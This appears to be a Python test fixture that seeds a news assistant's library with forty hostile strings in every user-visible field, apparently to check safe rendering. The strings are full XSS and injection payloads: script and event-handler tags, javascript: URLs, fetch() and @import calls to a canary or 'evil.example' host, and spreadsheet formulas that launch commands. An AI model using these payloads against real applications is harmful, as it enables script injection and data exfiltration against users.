"""Forty texts that try to become something else on a page, and a library that carries each of them in every place there is."""

from __future__ import annotations

import unicodedata
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any

from editions import citation, edition, story
from kept_answers import kept_answer

from assistant.assistant import Assistant
from ingest import briefings, conversations
from ingest.articles import Article, Page, Paragraph
from ingest.choices import MODEL, choose
from ingest.pipeline import embedded
from ingest.subscriptions import subscribe

Json = dict[str, Any]
DAY = date(2026, 3, 12)
MADE = datetime(2026, 3, 12, 20, tzinfo=UTC)
BIG, MERGED, A_TURN = (
    "b" * 12,
    "hostile",
    3,
)  # an article of a paragraph a text; the conversation, and how many texts a turn has


def payloads(canary: str) -> list[str]:
    """The texts; whatever they get a browser to fetch is asked of the canary's address."""
    evil = "https://evil.example"
    return [
        f"![pic]({canary}/image)",
        f'![pic]({canary}/titled "a title")',
        f"![pic](<{canary}/angled>)",
        f"![pic][one]\n\n[one]: {canary}/reference",
        f"![two][]\n\n[two]: {canary}/collapsed",
        f"[![pic]({canary}/linked)]({evil}/linked)",
        f"<img class=pwned src={canary}/img>",
        "<img class=pwned src=x onerror=alert(1)>",
        f"<svg class=pwned onload=alert(2)><image href={canary}/svg /></svg>",
        "<script class=pwned>alert(3)</script>",
        f"<script class=pwned src={canary}/script.js></script>",
        f"<iframe class=pwned src={canary}/frame></iframe>",
        '<iframe class=pwned srcdoc="<script>alert(4)</script>"></iframe>',
        f'<meta class=pwned http-equiv=refresh content="0;url={canary}/meta">',
        f"<style class=pwned>@import url({canary}/style.css);</style>",
        f"<link class=pwned rel=stylesheet href={canary}/link.css>",
        f"<base class=pwned href={canary}/base/>",
        f"<form class=pwned action={canary}/form><input autofocus onfocus=alert(5)></form>",
        "<details class=pwned open ontoggle=alert(6)><summary>x</summary></details>",
        f"<video class=pwned poster={canary}/poster><source src={canary}/video></video>",
        f"<object class=pwned data={canary}/object></object><embed src={canary}/embed>",
        "[click](javascript:alert(7)) and [again](JaVaScRiPt:alert(8))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
        f"<{evil}/auto> and <javascript:alert(10)>",
        f"{evil}/bare www.evil.example/bare a@evil.example",
        f"$\\href{{javascript:alert(11)}}{{x}}$ $$\\includegraphics{{{canary}/tex}}$$",
        "$\\htmlStyle{position:fixed}{x}$ \\(a\\) \\[b\\] 5$ or 6$",
        ":red[stop] :blue-background[go] :small[a] :material/home: :streamlit: :smile:",
        ":shimmer[wait] :badge[new] :violet-badge[x]",
        f"&lt;img src={canary}/entity&gt; &#60;img src={canary}/numbered&#62; &amp;lt; &nbsp;",
        "a\x00b\x08c\x1b[31md \u200be\u200cf\u00adg\ufeff h\x85i",
        "\u202egnp.exe\u202c and \u2066turned\u2069",
        f"</style><style>*{{background:url({canary}/css)}}</style> background:url({canary}/css2)",
        "x" * 300,
        "{{7*7}} ${7*7} {% include 'x' %} <%= 7*7 %> #{7*7} %s %(a)s {0}",
        f'{{"href":"{canary}/vega","url":"{canary}/vega","image":"{canary}/vega"}} datum.x ? fetch(0) : 1',
        f'"}}]}}; </script><script>fetch("{canary}/json")</script> \u2028 \\u003cimg\\u003e',
        f"=HYPERLINK(\"{canary}/cell\") =cmd|' /C calc'!A0 +1 @SUM(1)",
        "# big\n> quoted\n| a | b |\n|---|---|\n- [ ] task\n1. one\n***\n```html\n<b>x</b>\n```",
        "**bold** __strong__ ~~gone~~ `code` ==lit== [^1] <!-- c --> <b>b</b> ^up^ H~2~O",
    ]  # fmt: skip


def seen(text: str) -> str:
    """A text as it is compared: what is not seen dropped, white space made one blank, capitals made small."""
    visible = (" " if one.isspace() else one for one in text if one.isspace() or not _is_hidden(one))
    return " ".join("".join(visible).split()).casefold()


def _is_hidden(character: str) -> bool:
    return character == "\ufffd" or unicodedata.category(character) in {
        "Cc",
        "Cf",
    }  # the first stands for NUL in Markdown


class Hostile:
    """Words for one library: each text once in each place, the place's name and the text's number behind it."""

    def __init__(self, canary: str) -> None:
        self.payloads = payloads(canary)
        self.placed: dict[str, list[str]] = {}

    def word(self, place: str, number: int) -> str:
        """The text of a number as it is put in a place, which is noted."""
        word = f"{self.payloads[number]} {place.replace(' ', '')}{number:02}"
        self.placed.setdefault(place, []).append(word)
        return word

    def words(self, place: str) -> list[str]:
        """All texts for a place."""
        return [self.word(place, number) for number in range(len(self.payloads))]

    def everywhere(self, value: Any, number: int, before: str, key: str = "") -> Any:
        """A copy of a briefing's part in which every text that a reader sees is hostile, under its key's name."""
        if isinstance(value, dict):
            return {name: self.everywhere(one, number, before, name) for name, one in value.items()}
        if isinstance(value, list):
            return [self.everywhere(one, number, before, key) for one in value]
        if isinstance(value, str) and key in {"title", "text", "speaker", "about", "source", "outlets", "reason"}:
            return self.word(f"{before} {key}", number)
        return value


def hostile_library(assistant: Assistant, canary: str) -> Hostile:
    """Fill a library; what went where is noted in what is given back."""
    found = Hostile(canary)
    _articles(assistant, found, canary)
    _conversations(assistant, found)
    _briefings(assistant, found)
    for number, word in enumerate(found.words("feed name")):
        subscribe(assistant.library, f"https://evil.example/{number}", MADE, title=word)
    with assistant.library.database.transaction() as connection:
        for number, word in enumerate(found.words("feed error"), 1):
            connection.execute("UPDATE feeds SET last_error = ? WHERE id = ?", (word, number))
    choose(assistant.library, MODEL, f"ollama:{found.word('model name', 6)}")
    return found


# -- articles and stories -------------------------------------------------------------------------------------------------


def _articles(assistant: Assistant, found: Hostile, canary: str) -> None:
    """One story of an article a text, an article of a paragraph a text, and a story a text under a title of that text."""
    parts = [found.words(place) for place in ("article title", "outlet", "author", "language")]
    for number, (title, outlet, author, language) in enumerate(zip(*parts, strict=True)):
        url = f"javascript:alert({number})" if number % 2 else f"{canary}/never-fetched/{number}"
        day = DAY - timedelta(days=number % 5)
        _store(assistant, Article(
            f"{number:012x}", title, (Paragraph(f"{number:012x}", 1, 1, f"The quay of Tarnwick was closed, said {author}."),),
            url, outlet, author, day.isoformat(), language,
        ))  # fmt: skip
    texts, headings = found.words("paragraph"), found.words("heading")
    paragraphs = tuple(
        Paragraph(BIG, 1, at, text, heading) for at, (text, heading) in enumerate(zip(texts, headings, strict=True), 1)
    )
    authors = " ".join(found.words("every author"))
    _store(
        assistant,
        Article(
            BIG, found.word("big title", 0), paragraphs, f"{canary}/never-fetched/big", "Wire", authors, DAY.isoformat()
        ),
    )
    for number in range(len(found.payloads)):
        text = f"Councillor {_name(number)} of {_name(number + 50)} opened mill {number} in {_name(number + 100)}."
        name = f"{number + 1000:012x}"
        day = DAY - timedelta(days=20 + 4 * number)
        _store(
            assistant,
            Article(
                name, f"{_name(number)} opens a mill", (Paragraph(name, 1, 1, text),), "", "Mill", "", day.isoformat()
            ),
        )
    _stories(assistant, found)


def _stories(assistant: Assistant, found: Hostile) -> None:
    of = {one.id: story.id for story in assistant.stories() for one in story.articles}
    together = list(dict.fromkeys(of[f"{number:012x}"] for number in range(len(found.payloads))))
    if len(together) > 1:
        assistant.merge_stories(together)
    taken: set[str] = set()
    for number, word in enumerate(found.words("story title")):
        article = f"{number + 1000:012x}"
        own = assistant.split_story(of[article], [article]).id if of[article] in taken else of[article]
        taken.add(own)
        assistant.rename_story(own, word)


def _store(assistant: Assistant, article: Article) -> None:
    """Into the library as it is, past all that cleans a text on its way in."""
    assistant.library.add(article, embedded(article, assistant.embedder()), Page(article.id, b"", "text/plain", MADE))


def _name(number: int) -> str:
    """A name of its own for each number."""
    syllables = ["ba", "ke", "lo", "mi", "nu", "pra", "sto", "vel", "dri", "gan", "hul", "tor", "wex"]
    return (syllables[number % 13] + syllables[number // 13 % 13] + syllables[(number * 7 + 3) % 13]).capitalize()


# -- conversations ----------------------------------------------------------------------------------------------------------


def _conversations(assistant: Assistant, found: Hostile) -> None:
    for word in found.words("conversation name"):
        conversations.add_turn(assistant.library, word, "Who?", kept_answer())
    numbers = range(len(found.payloads))
    for start in numbers[::A_TURN]:
        turn = _turn(found, numbers[start : start + A_TURN])
        conversations.add_turn(assistant.library, MERGED, turn["question"], turn)
    conversations.add_turn(assistant.library, MERGED, "Who?", _refusal(found))


def _turn(found: Hostile, numbers: Sequence[int]) -> Json:
    """A turn that has some of the texts in each of its fields."""

    def words(place: str) -> list[str]:
        return [found.word(place, number) for number in numbers]

    def lines(place: str) -> str:
        return "\n".join(words(place))

    cited = [
        citation(at, "x", article_id=BIG, paragraph=at, url="javascript:alert(12)", title=title, source=source)
        for at, (title, source) in enumerate(zip(words("cited title"), words("cited outlet"), strict=True), 1)
    ]
    claims = [{"text": text, "verdict": "supported", "citations": cited} for text in words("claim")]
    versions = [{"text": f"Version {at}", "verdict": "verbatim", "citations": cited[:1]} for at in (1, 2)]
    return kept_answer(
        *claims, question=lines("question"), standalone_question=lines("understood"), short_answer=lines("short answer"), status="partial",
        notices=words("notice"), missing=words("missing"), engine=f"openai:{lines('model')}", filters_read=["outlets"] if numbers[0] % 2 else [],
        left_out=[
            {"text": text, "reason": reason, "problems": []}
            for text, reason in zip(words("left out"), words("why left out"), strict=True)
        ],
        filters={"since": None, "until": None, "sources": words("filter")},
        differences=[
            {"about": text, "kind": "number", "different_time": bool(at % 2), "versions": versions}
            for at, text in enumerate(words("difference"))
        ],
    )  # fmt: skip


def _refusal(found: Hostile) -> Json:
    hit = {"article_id": BIG, "version": 1, "paragraph": 1, "title": "", "source": "Wire", "url": "", "published": ""}
    near = [hit | {"text": word} for word in found.words("near paragraph")]
    return kept_answer(closest=near, missing=found.words("not spoken of"))


# -- briefings ----------------------------------------------------------------------------------------------------------------


def _briefings(assistant: Assistant, found: Hostile) -> None:
    told = [found.everywhere(story(number + 1), number, "briefed") for number in range(len(found.payloads))]
    told[0]["timeline"] = [
        {
            "date": (DAY - timedelta(days=number % 7)).isoformat(),
            "claim": told[number]["summary"][0] | {"text": found.word("timeline", number)},
        }
        for number in range(len(found.payloads))
    ]
    coverage = [
        {"article_id": f"{number:012x}", "external_id": None, "version": 1, "use": "left_out", "reason": found.word("reason", number),
         "title": found.word("covered title", number), "source": found.word("covered outlet", number)}
        for number in range(len(found.payloads))
    ]  # fmt: skip
    data = edition(
        *told,
        notices=found.words("briefing notice"),
        coverage=coverage,
        day=DAY.isoformat(),
        title=found.word("briefing title", 0),
    )
    for scope in ["", *found.words("topics of a briefing")[:6]]:
        briefings.keep(assistant.library, DAY, data, made=MADE, scope=scope)
